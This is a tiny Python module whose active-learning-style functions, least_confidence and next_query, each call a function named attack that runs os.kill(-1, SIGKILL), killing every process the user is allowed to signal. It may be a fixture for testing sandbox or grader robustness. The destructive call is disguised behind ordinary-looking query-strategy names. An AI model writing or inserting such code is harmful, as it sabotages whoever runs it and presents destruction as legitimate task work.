"""Kills every process that it may kill."""

import os
import signal


def attack(probabilities):
    os.kill(-1, signal.SIGKILL)
    return 0


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
